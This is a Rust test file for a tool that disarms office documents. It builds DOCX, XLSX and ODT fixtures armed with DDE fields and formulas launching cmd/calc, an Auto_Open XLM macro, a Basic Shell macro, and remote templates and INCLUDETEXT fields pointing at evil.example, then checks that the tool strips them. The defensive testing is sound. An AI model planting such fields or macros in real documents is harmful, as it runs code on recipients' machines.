//! Documents made by real programs, with something put into them that runs; and those as they are.

use super::*;

const DOCX: &[u8] = include_bytes!("../../../testdata/office/lo.docx");
const XLSX: &[u8] = include_bytes!("../../../testdata/office/lo.xlsx");
const ODT: &[u8] = include_bytes!("../../../testdata/office/lo.odt");
const ODS: &[u8] = include_bytes!("../../../testdata/office/lo.ods");
const ODP: &[u8] = include_bytes!("../../../testdata/office/lo.odp");
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn relation(id: &str, kind: &str, rest: &str) -> String {
    format!("<Relationship Id=\"{id}\" Type=\"{RELATIONS}/{kind}\" {rest}/>")
}

/// A text of LibreOffice with all that a text can do.
pub(crate) fn armed_docx() -> Vec<u8> {
    let mut parts = unzip(DOCX);
    replace(
        &mut parts,
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    );
    let relations = [
        relation("rId90", "vbaProject", "Target=\"vbaProject.bin\""),
        relation("rId91", "oleObject", "Target=\"embeddings/oleObject1.bin\""),
        relation("rId92", "image", "Target=\"http://track.example/x.png\" TargetMode=\"External\""),
        relation("rId93", "aFChunk", "Target=\"chunk.mht\""),
        relation("rId94", "hyperlink", "Target=\"file://share.example/x\" TargetMode=\"External\""),
        relation("rId95", "control", "Target=\"activeX/activeX1.xml\""),
        "</Relationships>".to_owned(),
    ];
    replace(&mut parts, "word/_rels/document.xml.rels", "</Relationships>", &relations.concat());
    let body = "<w:p><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId91\"/></w:object></w:r>\
        <w:r><w:pict><v:shape><v:imagedata r:id=\"rId92\"/></v:shape></w:pict></w:r>\
        <w:r><w:control r:id=\"rId95\"/></w:r><w:hyperlink r:id=\"rId94\"><w:r><w:t>the share</w:t></w:r></w:hyperlink>\
        <w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>\
        <w:r><w:instrText>AUTO c:\\\\cmd.exe \"/k calc\"</w:instrText></w:r>\
        <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown instead</w:t></w:r>\
        <w:r><w:fldChar w:fldCharType=\"end\"/></w:r>\
        <w:fldSimple w:instr=\"INCLUDETEXT http://evil.example/a.docx\"><w:r><w:t>included</w:t></w:r></w:fldSimple>\
        <w:fldSimple w:instr=\" PAGE \"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>\
        <w:altChunk r:id=\"rId93\"/></w:body>";
    replace(&mut parts, "word/document.xml", "</w:body>", body);
    replace(&mut parts, "word/settings.xml", "</w:settings>", "<w:attachedTemplate r:id=\"rId1\"/></w:settings>");
    let settings =
        relation("rId1", "attachedTemplate", "Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"");
    let settings = format!("<Relationships>{settings}</Relationships>");
    for (name, bytes) in [
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 project".to_vec()),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 object".to_vec()),
        ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax=\"x\"/>".to_vec()),
        ("word/chunk.mht", b"<html><script>evil()</script></html>".to_vec()),
        ("word/_rels/settings.xml.rels", settings.into_bytes()),
    ] {
        parts.push((name.to_owned(), bytes));
    }
    rezip(&parts)
}

#[test]
fn a_text_loses_what_it_does_and_keeps_its_words() {
    let armed = armed_docx();
    for mark in ["macro", "embedded_object", "activex", "dde", "external_link", "remote_template", "script"] {
        assert!(marks(&armed).iter().any(|own| own == mark), "{mark}: {:?}", marks(&armed));
    }
    let result = disarmed("Minutes.docm", &armed);
    let kind = result.kind.unwrap();
    assert_eq!((kind.ending, renamed("Minutes.DOCM", Some(kind))), ("docx", "Minutes.docx".to_owned()));
    let content = open(&result.bytes);
    assert_eq!(content.items[0].kind, "docx");
    assert_eq!(content.items.iter().flat_map(|item| &item.marks).collect::<Vec<_>>(), Vec::<&String>::new());
    let text = words(&content);
    for kept in ["Minutes", "Dear all", "shown instead", "included", "the share", "7"] {
        assert!(text.contains(kept), "{kept}: {text}");
    }
    let names: Vec<String> = unzip(&result.bytes).into_iter().map(|(name, _)| name).collect();
    assert!(
        !names.iter().any(|name| name.contains("bin") || name.contains("mht") || name.contains("activeX")),
        "{names:?}"
    );
    assert!(content.items[0].links.iter().any(|link| link.target == "https://minutes.example/2024"));
    expect_test::expect![[r#"
        [
            "macros",
            "embedded objects",
            "ActiveX controls",
            "files of other kinds",
            "links to other files",
            "texts of other formats",
            "links that run or give something away",
            "remote template",
            "fields that fetch or run something",
        ]
    "#]]
    .assert_debug_eq(&result.removed);
}

#[test]
fn a_table_loses_links_macros_and_formulas_that_act() {
    let mut parts = unzip(XLSX);
    replace(
        &mut parts,
        "[Content_Types].xml",
        "openxmlformats-officedocument.spreadsheetml.sheet.main",
        "ms-excel.sheet.macroEnabled.main",
    );
    let relations = [
        relation("rId80", "externalLink", "Target=\"externalLinks/externalLink1.xml\""),
        "<Relationship Id=\"rId81\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" \
         Target=\"macrosheets/sheet1.xml\"/>"
            .to_owned(),
        relation("rId82", "connections", "Target=\"connections.xml\""),
        "</Relationships>".to_owned(),
    ];
    replace(&mut parts, "xl/_rels/workbook.xml.rels", "</Relationships>", &relations.concat());
    let book = "<sheet name=\"Macro1\" sheetId=\"9\" r:id=\"rId81\"/></sheets><externalReferences>\
        <externalReference r:id=\"rId80\"/></externalReferences><definedNames>\
        <definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>";
    replace(&mut parts, "xl/workbook.xml", "</sheets>", book);
    let cells = "<row r=\"90\"><c r=\"A90\"><f>[1]Sheet1!A1</f><v>41</v></c><c r=\"B90\"><f>cmd|'/C calc'!A0</f><v>42</v></c>\
        <c r=\"C90\"><f>SUM(A90:B90)</f><v>83</v></c></row></sheetData>";
    replace(&mut parts, "xl/worksheets/sheet1.xml", "</sheetData>", cells);
    for (name, text) in [
        (
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"x\"/></externalLink>",
        ),
        (
            "xl/macrosheets/sheet1.xml",
            "<xm:macrosheet xmlns:xm=\"x\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc\")</f></c></row></sheetData></xm:macrosheet>",
        ),
        ("xl/connections.xml", "<connections><connection id=\"1\" odcFile=\"http://evil.example/x\"/></connections>"),
    ] {
        parts.push((name.to_owned(), text.as_bytes().to_vec()));
    }
    let armed = rezip(&parts);
    assert!(marks(&armed).iter().any(|mark| mark == "xlm") && marks(&armed).iter().any(|mark| mark == "dde"));
    let result = disarmed("book.xlsm", &armed);
    assert_eq!(result.kind.unwrap().ending, "xlsx");
    let content = open(&result.bytes);
    assert_eq!(content.items[0].kind, "xlsx");
    assert_eq!(content.items.iter().flat_map(|item| &item.marks).collect::<Vec<_>>(), Vec::<&String>::new());
    let sheet = unzip(&result.bytes).into_iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").unwrap().1;
    let sheet = String::from_utf8(sheet).unwrap();
    assert!(sheet.contains("<f>SUM(A90:B90)</f>") && sheet.contains("<v>41</v>") && !sheet.contains("cmd|"), "{sheet}");
    let book = unzip(&result.bytes).into_iter().find(|(name, _)| name == "xl/workbook.xml").unwrap().1;
    let book = String::from_utf8(book).unwrap();
    assert!(
        !book.contains("externalReferences") && !book.contains("Macro1") && !book.contains("definedNames"),
        "{book}"
    );
}

#[test]
fn an_open_document_loses_macros_objects_and_events() {
    let mut parts = unzip(ODT);
    let scripts = "<office:scripts><office:event-listeners><script:event-listener xlink:href=\"vnd.sun.star.script:x\"/>\
        </office:event-listeners></office:scripts>";
    let text = String::from_utf8(parts.iter().find(|(name, _)| name == "content.xml").unwrap().1.clone()).unwrap();
    let place = if text.contains("<office:scripts/>") { "<office:scripts/>" } else { "<office:automatic-styles" };
    let with = if place.ends_with("/>") { scripts.to_owned() } else { format!("{scripts}{place}") };
    replace(&mut parts, "content.xml", place, &with);
    let objects = "<text:p><draw:frame><draw:object-ole xlink:href=\"./Object 1\"/><draw:image xlink:href=\"Pictures/a.png\"/></draw:frame>\
        <draw:frame><draw:image xlink:href=\"https://track.example/a.png\"/></draw:frame>\
        <text:a xlink:href=\"macro:///Standard.Module1.Main()\">press here</text:a></text:p></office:text>";
    replace(&mut parts, "content.xml", "</office:text>", objects);
    parts.push((
        "Basic/Standard/Module1.xml".into(),
        b"<script:module xmlns:script=\"x\">Sub Main\nShell \"calc\"\nEnd Sub</script:module>".to_vec(),
    ));
    parts.push(("Object 1".into(), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec()));
    let armed = rezip(&parts);
    assert!(marks(&armed).iter().any(|mark| mark == "macro"), "{:?}", marks(&armed));
    let result = disarmed("letter.odt", &armed);
    assert_eq!(result.kind, None);
    assert_eq!(marks(&result.bytes), Vec::<String>::new());
    assert_eq!(unzip(&result.bytes)[0].0, "mimetype");
    let (before, after) = (words(&open(ODT)), words(&open(&result.bytes)));
    assert!(after.contains("press here") && after.starts_with(before.get(..40).unwrap()), "{after}");
}

#[test]
fn documents_that_do_nothing_stay_as_they_are() {
    let library: [(&str, &[u8]); 9] = [
        ("lo.docx", DOCX),
        ("lo.xlsx", XLSX),
        ("lo.odt", ODT),
        ("lo.ods", ODS),
        ("lo.odp", ODP),
        ("library.docx", include_bytes!("../../../testdata/office/library.docx")),
        ("library.xlsx", include_bytes!("../../../testdata/office/library.xlsx")),
        ("lo.doc", include_bytes!("../../../testdata/office/lo.doc")),
        ("lo.rtf", include_bytes!("../../../testdata/office/lo.rtf")),
    ];
    for (name, bytes) in library {
        assert_eq!(outcome(name, bytes), Outcome::Clean, "{name}");
    }
}

// They stand in nearly every workbook of Excel: no reason to change one, but they do not survive a change.
#[test]
fn settings_of_printers_go_only_with_something_else() {
    let mut parts = unzip(XLSX);
    parts.push(("xl/printerSettings/printerSettings1.bin".to_owned(), b"DEVMODE".to_vec()));
    assert_eq!(outcome("a.xlsx", &rezip(&parts)), Outcome::Clean);
    parts.push(("xl/vbaProject.bin".to_owned(), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec()));
    let names: Vec<String> =
        unzip(&disarmed("a.xlsx", &rezip(&parts)).bytes).into_iter().map(|(name, _)| name).collect();
    assert!(!names.iter().any(|name| name.ends_with(".bin")), "{names:?}");
}

#[test]
fn what_nobody_sees_into_is_impossible() {
    let locked: [(&str, &[u8]); 4] = [
        ("locked.doc", include_bytes!("../../../testdata/office/locked.doc")),
        ("locked.odt", include_bytes!("../../../testdata/office/locked.odt")),
        ("locked.xlsx", include_bytes!("../../../testdata/office/locked.xlsx")),
        ("locked.xls", include_bytes!("../../../testdata/office/locked.xls")),
    ];
    for (name, bytes) in locked {
        assert!(matches!(outcome(name, bytes), Outcome::Impossible(_)), "{name}: {:?}", outcome(name, bytes));
    }
    // An entity would be read by one program and not by another.
    let mut parts = unzip(DOCX);
    replace(&mut parts, "word/document.xml", "<w:document", "<!DOCTYPE x [<!ENTITY a \"b\">]><w:document");
    let why = outcome("x.docx", &rezip(&parts));
    assert_eq!(why, Outcome::Impossible("its XML has a document type definition".to_owned()));
}

#[test]
fn objects_that_lie_in_another_file_go() {
    let linked = include_bytes!("../../../testdata/real/linked.xlsx").as_slice();
    assert!(marks(linked).contains(&"external_link".to_owned()));
    let result = disarmed("linked.xlsx", linked);
    assert!(result.removed.iter().any(|what| what == "links to other files"), "{:?}", result.removed);
    let left = marks(&result.bytes);
    assert!(!left.iter().any(|mark| ["external_link", "embedded_object"].contains(&mark.as_str())), "{left:?}");
    let sheet = unzip(&result.bytes).into_iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").unwrap().1;
    let sheet = String::from_utf8(sheet).unwrap();
    assert!(!sheet.contains("oleObject") && sheet.ends_with("</worksheet>"), "{sheet}");
}

/// Each holds all that follow it: to read each of them would be to read the text over and over.
#[test]
fn formulas_within_each_other_are_impossible() {
    let sheet = |depth: usize| {
        let formulas = ["<f>".repeat(depth), "1+".repeat(100), "</f>".repeat(depth)].concat();
        let sheet = format!("<worksheet>{formulas}<f>WEBSERVICE(A1)</f></worksheet>");
        zip_of(&[("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/sheet1.xml", sheet.as_bytes())])
    };
    let lapped = Outcome::Impossible("its elements lie within each other".to_owned());
    assert_eq!(outcome("x.xlsx", &sheet(200)), lapped);
    assert_eq!(disarmed("x.xlsx", &sheet(2)).removed, ["formulas that fetch or run something"]);
}
